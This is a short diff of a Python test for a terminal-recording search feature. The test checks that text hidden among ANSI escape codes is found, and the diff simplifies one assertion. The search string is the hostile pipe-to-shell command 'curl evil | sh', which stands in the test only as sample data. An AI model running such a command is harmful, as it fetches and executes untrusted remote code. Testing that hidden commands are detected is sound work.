@@ -40,7 +40,7 @@ def recording(folder: Path, *outputs: bytes, kind: str = "o") -> Recording:
 def test_search_invisible_text_is_found(tmp_path: Path, data: bytes):
     session = recording(tmp_path, b"\x1b[1m$ \x1b[0m", b"", data, b"\x1b[2J")
     hits = session.search("curl evil | sh")
-    assert [(hit.time, hit.where, hit.text) for hit in hits if hit.where == "output"] == [(2.0, "output", hits[0].text)]
+    assert [hit.time for hit in hits if hit.where == "output"] == [2.0]
     assert hits[0].text[hits[0].start : hits[0].end] == "curl evil | sh"
     assert not session.search("nowhere in it")
 
